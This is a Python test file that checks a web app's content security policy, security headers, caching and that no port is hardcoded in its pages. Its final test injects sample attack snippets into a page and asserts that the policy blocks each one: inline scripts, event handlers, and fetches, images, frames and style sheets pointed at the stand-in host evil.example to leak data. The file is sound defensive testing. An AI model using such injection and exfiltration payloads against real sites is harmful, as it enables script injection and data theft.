"""Test that pages run under a strict content policy, and that no address is built into them."""

from __future__ import annotations

import re
from collections.abc import Callable

import pytest

from tests.support.browser.chat import Chat, in_production
from tests.support.browser.raw import request
from tests.support.browser.server import Server

pytestmark = in_production
OpenTab = Callable[..., Chat]

PLACES = [
    "/",
    "/settings/",
    "/share/no-token",
    "/no/such/page",
    "/favicon.svg",
    "/ping",
    "/files/thread_1/file_1/name",
    "/shared/token/file_1/name",
]


@pytest.mark.parametrize("path", PLACES)
@pytest.mark.parametrize("site", ["same-origin", "cross-site"])
def test_every_response_has_security_headers(server: Server, path: str, site: str) -> None:
    _, headers, _ = request(
        server.port, f"GET {path}", f"Host: localhost:{server.port}", f"Sec-Fetch-Site: {site}"
    )
    assert headers["x-content-type-options"] == "nosniff"
    assert headers["referrer-policy"] in ("same-origin", "no-referrer")
    assert "frame-ancestors 'none'" in headers["content-security-policy"]
    assert "default-src 'none'" in headers["content-security-policy"]
    assert "unsafe-eval" not in headers["content-security-policy"]


def test_hashed_files_are_kept_and_pages_are_asked_for_again(server: Server) -> None:
    own = f"Host: localhost:{server.port}"
    _, headers, page = request(server.port, "GET /", own)
    assert headers["cache-control"] == "no-cache"
    script = re.search(rb'"(/assets/[^"]+\.js)"', page)
    assert script
    _, headers, _ = request(server.port, f"GET {script[1].decode()}", own)
    assert "immutable" in headers["cache-control"]


def test_pages_redirect_without_naming_a_host(server: Server) -> None:
    status, headers, _ = request(server.port, "GET /settings", "Host: localhost")
    assert (status, headers["location"]) == (307, "/settings/")


def test_no_address_is_built_into_the_pages(server: Server) -> None:
    served = server.web / "served"
    files = [path for path in served.rglob("*") if path.is_file() and path.suffix in (".js", ".html", ".css")]
    assert len(files) > 20
    for address in ('"ws://localhost:{}/_event"', "`http://${{name}}:{}`", "{{port:{}}}", '"PORT": "{}"'):
        assert names_port(address.format(server.port), server.port)
    for path in files:
        text = path.read_text("utf-8", "ignore")
        assert not names_port(text, server.port), path
        assert "__base__" not in text, path


def names_port(text: str, port: int) -> bool:
    """Return whether a text names this port as a port; the bare number may be part of a colour."""
    return re.search(rf"//[^/\s\"'`]*:{port}\b|\bport\b\W{{0,4}}{port}\b", text, re.I) is not None


ATTACKS = {
    "an inline script": "document.body.append(Object.assign(document.createElement('script'), {text: 'window.hacked = 1'}))",
    "a script of another site": "document.body.append(Object.assign(document.createElement('script'), {src: 'http://evil.example/a.js'}))",
    "an event handler": "document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=\"window.hacked = 1\">')",
    "text as a script": "setTimeout('window.hacked = 1')",
    "a picture of another site": "document.body.append(Object.assign(new Image(), {src: 'http://evil.example/leak.png'}))",
    "a request to another site": "fetch('http://evil.example/leak').catch(() => {})",
    "a socket to another port": "new WebSocket('ws://' + location.hostname + ':1/')",
    "a frame": "document.body.append(Object.assign(document.createElement('iframe'), {src: 'http://evil.example/'}))",
    "a style sheet of another site": "document.head.append(Object.assign(document.createElement('link'), {rel: 'stylesheet', href: 'http://evil.example/a.css'}))",
    "another base": "document.head.append(Object.assign(document.createElement('base'), {href: 'http://evil.example/'}))",
}
REPORT = """async (attack) => {
  const found = new Promise((done) => {
    document.addEventListener("securitypolicyviolation", (event) => done(event.effectiveDirective), { once: true });
    setTimeout(() => done("nothing stopped it"), 5000);
  });
  try { attack(); } catch {}
  return [await found, window.hacked ?? "not hacked", document.baseURI];
}"""


def test_markup_that_gets_into_a_page_can_neither_run_nor_leak(
    server: Server, open_tab: OpenTab, page_errors: list[str]
) -> None:
    tab = open_tab()
    answered: list[str] = []
    tab.page.on("requestfinished", lambda request: answered.append(request.url))
    for what, attack in ATTACKS.items():
        stopped, hacked, base = tab.page.evaluate(REPORT.replace("attack()", attack))
        assert stopped.endswith(("-src", "-elem", "-attr", "-uri")), f"{what}: {stopped}"
        assert hacked == "not hacked", what
        assert base.startswith(server.url), what
    assert not [url for url in answered if "evil.example" in url]
    page_errors.clear()  # the browser reports each violation
